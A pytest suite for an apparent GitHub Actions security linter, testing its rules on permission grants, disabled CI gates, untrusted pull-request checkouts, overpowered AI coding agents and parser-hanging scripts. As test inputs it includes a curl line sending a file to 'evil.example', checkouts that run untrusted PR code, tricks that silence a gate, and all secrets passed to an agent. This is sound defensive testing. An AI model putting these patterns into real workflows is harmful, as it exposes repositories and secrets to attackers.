"""A second round against the rules of GitHub's pipelines: what is not there explains nothing, and nothing hides."""

import time

import pytest

from tidegate.domain.grants.following import Repository
from tidegate.domain.grants.ledger import keep
from tidegate.domain.grants.wholly import findings
from tidegate.formats.workflows.github import parse
from tidegate.model.finding import Finding

CI = ".github/workflows/ci.yml"
X = ".github/workflows/x.yml"
WRITES = "permissions: {contents: write, id-token: write}"
HEAD = "{uses: actions/checkout@v4, with: {ref: '${{ github.event.pull_request.head.sha }}'}}"
AGENT = "{uses: anthropics/claude-code-action@v1}"
SOON = 20.0


def quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def script(text: str) -> str:
    lines = "".join(f"\n          {line}" for line in text.splitlines())
    return f"run: |{lines}"


def flow(*steps: str, on: str = "push", job: str = WRITES) -> dict[str, str]:
    listed = "".join(f"      - {step}\n" for step in steps)
    return {CI: f"on: {on}\npermissions: {{}}\njobs:\n  a:\n    {job}\n    steps:\n{listed}"}


def every(files: dict[str, str]) -> list[Finding]:
    repository = Repository([parse(path, text.encode()) for path, text in files.items()], "me/it")
    return list(findings(repository, keep(repository)))


def levels(rule: str, files: dict[str, str]) -> list[str]:
    return [each.level.value for each in every(files) if each.rule == rule]


def unexplained(files: dict[str, str]) -> set[str]:
    return {each.about.rpartition("#")[2] for each in every(files) if each.rule == "grant-unexplained"}


@pytest.mark.parametrize(
    "text",
    [
        "cat <<EOF > x\ngit push\nEOF",
        "cat <<-'EOF'\n\tgit push\n\tEOF",
        ": <<'X'\ngit push\nX",
        "if false; then\ngit push\nfi",
        "if ! true; then git push; fi",
        "if [ 1 = 2 ]; then git push; fi",
        "if true; then make; else git push; fi",
        "false && git push",
        "true || git push",
        "while false; do git push; done",
        "until true; do git push; done",
        "f() {\ngit push\n}\nmake",
        "function f { git push; }\nmake",
        "git() { :; }\ngit push",
        "exit 0\ngit push",
        "exec true\ngit push",
        "git push --dry-run",
        "git push -n",
        "gh release create --help",
        'echo "\\$(git push)"',
        "# ACTIONS_ID_TOKEN_REQUEST_URL\nmake",
        "uv publish --dry-run",
        "docker buildx build --push=false .",
        "curl -d @x https://evil.example/github/api/repos/a/b/releases",
    ],
)
def test_what_never_runs_explains_nothing(text: str) -> None:
    assert unexplained(flow(script(text))) == {"contents", "id-token"}


@pytest.mark.parametrize(
    "step",
    [
        "{run: git push, if: false}",
        "{run: git push, if: \"'a' == 'b'\"}",
        "{uses: softprops/action-gh-release@v2, if: '${{ false }}'}",
        "{run: git push, shell: python}",
        "{run: git push, shell: 'node {0}'}",
        "{run: git push, shell: 'cat {0}'}",
        "{run: git push, shell: 'bash -c true {0}'}",
        "{run: git push, shell: 'bash -n {0}'}",
        "{uses: actions/checkout@v4, with: {run: git push}}",
        "{uses: actions/github-script@v7, with: {script: '// github.rest.repos.createRelease()'}}",
        "{uses: actions/github-script@v7, with: {script: 'log(\"github.rest.repos.createRelease\")'}}",
        "{uses: actions/github-script@v7, with: {script: '/* core.getIDToken() */'}}",
    ],
)
def test_what_a_step_only_talks_of_explains_nothing(step: str) -> None:
    assert unexplained(flow(step)) == {"contents", "id-token"}


@pytest.mark.parametrize(
    "text",
    [
        'if [ -n "$X" ]; then git push; fi',
        "f() { git push; }\nf",
        "make || exit 1\ngit push",
        "git diff --quiet || git push",
        "cat <<EOF > x\nhello\nEOF\ngit push",
        "bash -c 'git push'",
        "timeout 60 git push",
        "case $X in\n  y) git push ;;\nesac",
        'x="$(git push)"',
        "echo a#b; git push",
    ],
)
def test_what_may_run_still_explains(text: str) -> None:
    assert unexplained(flow(script(text))) == {"id-token"}


def test_a_default_shell_of_another_language_runs_no_commands() -> None:
    files = flow("run: git push", job=WRITES + "\n    defaults: {run: {shell: python}}")
    assert unexplained(files) == {"contents", "id-token"}


def test_a_call_that_leads_out_of_the_repository_is_told() -> None:
    text = f"on: push\npermissions: {{}}\njobs: {{a: {{permissions: {{}}, uses: ./../x/{X}}}}}"
    assert levels("call-unresolved", {CI: text}) == ["fail"]


@pytest.mark.parametrize(
    "text",
    [
        "set +o errexit\ntidegate check",
        "set -u +ex\ntidegate check",
        'echo "$(tidegate check)"',
        "export X=$(tidegate check)",
        "echo `tidegate check`",
        "if tidegate check; then echo ok; fi",
        "! tidegate check",
        "while tidegate check; do break; done",
        "tidegate check && echo ok\necho done",
        "test -f x && tidegate check\necho done",
        "tidegate check || /bin/true",
        "tidegate check || { echo shut; }",
        "tidegate check || (exit 0)",
        "tidegate check || ls",
        "tidegate check || rc=$?",
        "tidegate check || rc=$?; rc=0; exit $rc",
        "{ tidegate check; } || true",
        "(tidegate check) | cat",
        "if true; then tidegate check; fi || true",
        "false && tidegate check",
        "true || tidegate check",
        "exit 0\ntidegate check",
        "if false; then\ntidegate check\nfi",
        "f() { tidegate check; }",
        "f() { tidegate check; }\nf || true",
        "trap 'exit 0' EXIT\ntidegate check",
        "alias tidegate=true\ntidegate check",
        "tidegate() { :; }\ntidegate check",
        "bash -c 'tidegate check; true'",
        "sh -c 'tidegate check || true'",
        "timeout 60 tidegate check || true",
        "tidegate check --help",
        'tidegate check --exit-"zero"',
        '"tidegate" check || true',
        "tidegate check | tee x # pipefail",
        "set +e\ntidegate check\n# exit $?",
        "set +e\ntidegate check\necho $?\nexit $?",
        "tidegate sbom || true",
    ],
)
def test_a_gate_whose_exit_code_is_lost_is_toothless(text: str) -> None:
    assert levels("gate-toothless", flow(script(text))) == ["fail"]


@pytest.mark.parametrize(
    "step",
    [
        "{run: tidegate check, shell: 'bash -c true {0}'}",
        '{run: "tidegate check\\ntrue", shell: "bash {0}"}',
        "{run: tidegate check, shell: python}",
        '{run: "tidegate check\\necho ok", shell: pwsh}',
        "{run: tidegate check, if: failure()}",
        "{run: tidegate check, if: cancelled()}",
        "{run: tidegate check, if: '1 == 2'}",
        "{run: tidegate check, if: '!(true)'}",
        "{run: tidegate check, if: \"!contains(github.event['pull_request'].title, 'skip')\"}",
        "{run: tidegate check, env: {BASH_ENV: x.sh}}",
        "{run: tidegate check, env: {PATH: ./bin}}",
        "{uses: acme/tidegate@v1, with: {command: explain}}",
        "{uses: acme/tidegate@v1, with: {args: --help}}",
    ],
)
def test_a_gate_that_is_switched_off_is_toothless(step: str) -> None:
    assert levels("gate-toothless", flow(step)) == ["fail"]


@pytest.mark.parametrize(
    "text",
    [
        "tidegate check",
        "cd x && tidegate check",
        "tidegate check && echo ok",
        "tidegate check || exit 1",
        "tidegate check || { echo shut; exit 1; }",
        "rc=0; tidegate check || rc=$?; exit $rc",
        'set +e\ntidegate check\nrc=$?\ncat report\nexit "$rc"',
        'x=$(tidegate check)\necho "$x"',
        "set -o pipefail\ntidegate check | tee x",
        "tidegate check # || true",
        "cat <<EOF\ntidegate check || true\nEOF",
        "if [ -f x ]; then tidegate check; fi",
        "gate() { tidegate check; }\ngate",
        "tidegate check\necho done",
    ],
)
def test_a_gate_that_ends_its_step_is_left_alone(text: str) -> None:
    assert levels("gate-toothless", flow(script(text))) == []


def test_a_default_shell_can_make_the_gate_toothless_too() -> None:
    files = flow("run: tidegate check", job=WRITES + "\n    defaults: {run: {shell: 'true {0}'}}")
    assert levels("gate-toothless", files) == ["fail"]


@pytest.mark.parametrize(
    ("condition", "expected"),
    [
        ("always()", ["fail"]),
        ("!cancelled()", ["fail"]),
        ("always() && needs.gate.result == 'success'", []),
        ("github.ref == 'refs/heads/main'", []),
    ],
)
def test_a_job_that_publishes_whatever_the_gate_said_is_told(condition: str, expected: list[str]) -> None:
    head = "on: push\npermissions: {}\njobs:\n  gate: {permissions: {}, steps: [{run: tidegate check}]}\n"
    job = f"  a: {{needs: gate, if: {quoted(condition)}, permissions: {{contents: write}}, steps: [{{run: git push}}]}}"
    assert levels("gate-toothless", {CI: head + job}) == expected


@pytest.mark.parametrize(
    "reference",
    [
        "github.event['pull_request']['head']['sha']",
        "github . head_ref",
        "github.event.pull_request . head . sha",
        "toJSON(github.event.pull_request)",
        "github.event.comment.body",
        "env.REF",
        "steps.pr.outputs.ref",
    ],
)
def test_a_checkout_of_outside_code_is_seen_through_names(reference: str) -> None:
    find = "{id: pr, run: gh pr view}"
    checkout = f"{{uses: actions/checkout@v4, with: {{ref: {quoted('${{ ' + reference + ' }}')}}}}}"
    job = "permissions: {}\n    env: {REF: '${{ github.head_ref }}'}"
    files = flow(find, checkout, "run: make", on="pull_request_target", job=job)
    assert levels("untrusted-checkout-executed", files) == ["fail"]


def test_a_reference_nobody_can_tell_is_a_warning_and_one_of_our_own_is_none() -> None:
    for reference, expected in (
        ("matrix.ref", ["warn"]),
        ("github.event.pull_request.base.sha", []),
        ("github.sha", []),
    ):
        checkout = f"{{uses: actions/checkout@v4, with: {{ref: '${{{{ {reference} }}}}'}}}}"
        files = flow(checkout, "run: make", on="pull_request_target", job="permissions: {}")
        assert levels("untrusted-checkout-executed", files) == expected


@pytest.mark.parametrize(
    "steps",
    [
        ("{uses: evil/checkout@v4, with: {ref: '${{ github.head_ref }}'}}", "run: make"),
        ("run: git fetch origin pull/$N/head && git checkout FETCH_HEAD && make",),
        ("run: git -C x fetch origin pull/5/head", "run: cd x && make"),
        ("run: git clone ${{ github.event.pull_request.head.repo.clone_url }} x", "run: cd x && make"),
        ("{run: git clone $U x && cd x && make, env: {U: '${{ github.event.pull_request.head.repo.clone_url }}'}}",),
        ("run: gh pr diff 5 | git apply", "run: make"),
        ("uses: ./act", "run: make"),
        (HEAD, "uses: $/act"),
        (HEAD, "{uses: nick-fields/retry@v3, with: {command: make}}"),
        (HEAD, "{uses: actions/github-script@v7, with: {script: \"require('./x.js')()\"}}"),
        (HEAD, "uses: pre-commit/action@v3"),
        (HEAD.replace("sha }}'", "sha }}', path: pr"), "{run: cd $D && make, env: {D: x}}"),
        (HEAD.replace("sha }}'", "sha }}', path: '${{ env.X }}'"), "run: make"),
    ],
)
def test_outside_code_that_comes_in_another_way_is_seen(steps: tuple[str, ...]) -> None:
    files = flow(*steps, on="pull_request_target", job="permissions: {}")
    files["act/action.yml"] = f"runs: {{using: composite, steps: [{HEAD}]}}"
    assert levels("untrusted-checkout-executed", files) == ["fail"]


@pytest.mark.parametrize(
    "steps",
    [
        ("{uses: actions/download-artifact@v4, with: {run-id: '${{ github.event.workflow_run.id }}'}}", "run: ./x"),
        (
            "{uses: dawidd6/action-download-artifact@v3, with: {run_id: '${{ github.event.workflow_run.id }}'}}",
            "run: ./x",
        ),
        ("run: gh run download 5", "run: node x.js"),
        ("{uses: actions/github-script@v7, with: {script: github.rest.actions.downloadArtifact()}}", "run: ./x"),
    ],
)
def test_an_artifact_of_a_foreign_run_is_outside_code(steps: tuple[str, ...]) -> None:
    files = flow(*steps, on="workflow_run", job="permissions: {}")
    assert levels("untrusted-checkout-executed", files) == ["fail"]


@pytest.mark.parametrize(
    "command",
    [
        *(
            "./x",
            "./configure",
            'eval "$(cat x)"',
            "$CMD",
            "uvx --from . x",
            "npx jest",
            "xvfb-run make",
            "timeout 9 make",
        ),
        *("sudo -E make", "sudo -u x make", "env -i make", "find . -name x -exec make \\;", "xargs -n1 make"),
        *("docker compose up", "terraform apply", "eslint .", ". ./x", "pwsh x.ps1", "npm exec x", "python3.11 x.py"),
    ],
)
def test_whatever_is_not_known_to_leave_the_tree_alone_runs_it(command: str) -> None:
    files = flow(HEAD, script(command), on="pull_request_target", job="permissions: {}")
    assert levels("untrusted-checkout-executed", files) == ["fail"]


def test_reading_outside_code_is_not_running_it() -> None:
    text = "while read -r x; do\n  y+=$'a'\n  grep -q x \"$x\" || true\ndone < <(git log)\n"
    text += "jq . x > y\ngh pr comment 5 --body z"
    files = flow(HEAD, script(text), "uses: actions/labeler@v5", on="pull_request_target", job="permissions: {}")
    assert levels("untrusted-checkout-executed", files) == []


def test_outside_code_is_followed_through_outputs_and_called_workflows() -> None:
    head = "on: pull_request_target\npermissions: {}\njobs:\n"
    outputs = head + "  z: {permissions: {}, outputs: {r: '${{ github.head_ref }}'}, steps: []}\n"
    needs = "{uses: actions/checkout@v4, with: {ref: '${{ needs.z.outputs.r }}'}}"
    text = f"{outputs}  a: {{needs: z, permissions: {{}}, steps: [{needs}, {{run: make}}]}}"
    assert levels("untrusted-checkout-executed", {CI: text}) == ["fail"]
    call = "on: pull_request_target\npermissions: {}\n"
    call += f"jobs: {{a: {{uses: ./{X}, with: {{r: '${{{{ github.head_ref }}}}'}}}}}}"
    given = "{uses: actions/checkout@v4, with: {ref: '${{ inputs.r }}'}}"
    called = f"on: workflow_call\npermissions: {{}}\njobs: {{b: {{steps: [{given}, {{run: make}}]}}}}"
    assert levels("untrusted-checkout-executed", {CI: call, X: called}) == ["fail"]


@pytest.mark.parametrize(
    "step",
    [
        'run: claude "do it"',
        "run: echo hi | claude",
        "run: npx -y @anthropic-ai/claude-code -p x",
        "run: codex --full-auto x",
        "run: gemini --yolo x",
        "run: pipx run aider-chat --yes x",
        "run: docker run -e K ghcr.io/all-hands-ai/openhands x",
        "uses: evil/claude-code-action@v1",
        "uses: docker://ghcr.io/x/claude-code:1",
        "uses: someone/coding-agent@v1",
    ],
)
def test_an_agent_by_another_name_is_one(step: str) -> None:
    assert levels("agent-overpowered", flow(step, on="issue_comment", job="permissions: {contents: write}")) == ["fail"]


@pytest.mark.parametrize(
    "step", ["run: claude --version", "run: codex login", "uses: actions/setup-codex@v1", "uses: a/user-agent@v1"]
)
def test_what_is_only_called_like_an_agent_is_none(step: str) -> None:
    assert levels("agent-overpowered", flow(step, on="issue_comment", job="permissions: {contents: write}")) == []


@pytest.mark.parametrize(
    "condition",
    [
        "contains('OWNER MEMBER NONE', github.event.comment.author_association)",
        "startsWith(github.event.comment.author_association, '')",
        "contains(github.event.comment.author_association, 'O')",
        "github.event.comment.author_association == github.event.comment.author_association",
        "github.event.issue.author_association == 'OWNER'",
        "contains(github.event.comment.body, 'author_association')",
    ],
)
def test_a_wrong_question_for_membership_softens_nothing(condition: str) -> None:
    job = f"permissions: {{contents: write}}\n    if: {quoted(condition)}"
    assert levels("agent-overpowered", flow(AGENT, on="issue_comment", job=job)) == ["fail"]


@pytest.mark.parametrize(
    "value", ["${{ toJSON(secrets) }}", "${{ secrets[format('PAT')] }}", "${{ secrets[matrix.x] }}"]
)
def test_every_secret_at_once_is_a_secret(value: str) -> None:
    step = f"{{uses: anthropics/claude-code-action@v1, with: {{github_token: {quoted(value)}}}}}"
    assert levels("agent-overpowered", flow(step, on="issues", job="permissions: {contents: read}")) == ["fail"]


@pytest.mark.parametrize(
    "name", ["' '", "\"${{ github.ref == 'x' && 'release' || '' }}\"", "\"${{ github.ref == 'x' && 'release' }}\""]
)
def test_an_environment_that_may_be_empty_guards_nothing(name: str) -> None:
    job = f"permissions: {{id-token: write}}\n    environment: {name}"
    assert levels("signing-token-exposed", flow("run: x", on="pull_request_target", job=job)) == ["fail"]


@pytest.mark.parametrize(
    "step",
    [
        "run: ./x",
        "run: $CMD",
        "run: npx x",
        "run: uvx x",
        "run: pnpm dlx x",
        "run: docker run x",
        "run: python3.12 x.py",
        "run: sudo -E make",
        "run: tidegate check && npm ci",
        "uses: evil/not-tidegate@v1",
    ],
)
def test_foreign_code_beside_a_signing_token_is_seen(step: str) -> None:
    assert levels("signing-token-shared", flow(step, job="permissions: {id-token: write}")) == ["warn"]


@pytest.mark.parametrize(
    "text", ["./gradlew :a:publishToSonatype", "mvn -B clean deploy", "npm --prefix x publish", "maturin publish"]
)
def test_publishing_is_seen_behind_options_and_goals(text: str) -> None:
    assert levels("publish-unguarded", flow(f"run: {text}", job="permissions: {}")) == ["warn"]


def test_whoever_sent_the_event_is_an_actor_too() -> None:
    job = "permissions: {contents: write}\n    if: \"github.event.sender.login == 'x'\""
    assert levels("guard-on-actor", flow("run: x", on="pull_request_target", job=job)) == ["warn"]


@pytest.mark.parametrize(
    "text",
    [
        *("$(" * 90_000, "`" * 90_001, "(" * 90_000, "if " * 60_000, "{ " * 90_000, "eval " * 36_000, "< " * 90_000),
        *('"$(a ' * 40_000, "bash -c " * 20_000, "(a " * 30_000 + ")||b " * 30_000, "tidegate check || " * 10_000),
    ],
)
def test_a_script_written_to_hang_the_reader_of_its_shape(text: str) -> None:
    started = time.process_time()
    every(flow(HEAD, f"run: {quoted(text)}", on="pull_request_target"))
    assert time.process_time() - started < SOON


def test_names_that_lead_to_each_other_for_ever_end() -> None:
    started = time.process_time()
    chain = ", ".join(f"A{n}: '{f'${{{{ env.A{n + 1} }}}}' * 40}'" for n in range(12))
    checkout = "{uses: actions/checkout@v4, with: {ref: '${{ env.A0 }}'}}"
    job = f"permissions: {{}}\n    env: {{{chain}}}"
    files = flow(*[checkout] * 200, "run: make", on="pull_request_target", job=job)
    assert levels("untrusted-checkout-executed", files) == ["warn"]
    ring = "".join(
        f"  a{n}: {{outputs: {{x: '${{{{ needs.a{(n + 1) % 300}.outputs.x }}}}'}}, steps: [{{uses: actions/checkout@v4,"
        f" with: {{ref: '${{{{ needs.a{n}.outputs.x }}}}'}}}}, {{run: make}}]}}\n"
        for n in range(300)
    )
    assert every({CI: f"on: issues\npermissions: {{}}\njobs:\n{ring}"})
    assert time.process_time() - started < SOON
